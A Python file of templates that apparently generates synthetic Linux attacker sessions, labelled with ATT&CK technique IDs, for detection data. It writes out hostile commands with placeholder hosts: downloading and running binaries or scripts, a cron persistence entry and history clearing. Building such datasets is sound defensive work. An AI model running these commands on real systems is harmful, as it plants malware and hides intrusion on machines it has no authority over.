"""Hand-written Linux attacker session templates for make_sessions.py: one family per template. The template
language is described in sessions_core.py; the labelling rules in SESSIONS.md."""

FAMILIES = [
("bot-cpuinfo-dropper", "bot", """
~ T1082 :: cat /proc/cpuinfo | grep name | wc -l
~ T1082 :: uname -a
~ T1033 :: whoami
~ T1082 :: free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'
T1105,T1105,T1222.002,T1059.004 :: cd {dir}; wget http://{c2}/{bin}; chmod +x {bin}; ./{bin}
?0.5 T1070.004 :: rm -rf {bin}
"""),
("human-recon-miner", "human", """
T1033 :: id
T1082 :: uname -a
T1082 :: cat /etc/os-release
T1057 :: ps aux | grep -v grep | grep -i «xmr|mine|kdevtmpfsi»
T1105 :: cd {dir}
T1105 :: curl -fsSL http://{dom}/{script} -o {script}
T1222.002,T1059.004 :: chmod +x {script} && ./{script}
T1053.003 :: (crontab -l 2>/dev/null; echo "*/10 * * * * {dir}/{script}") | crontab -
T1690 :: history -c
"""),
]
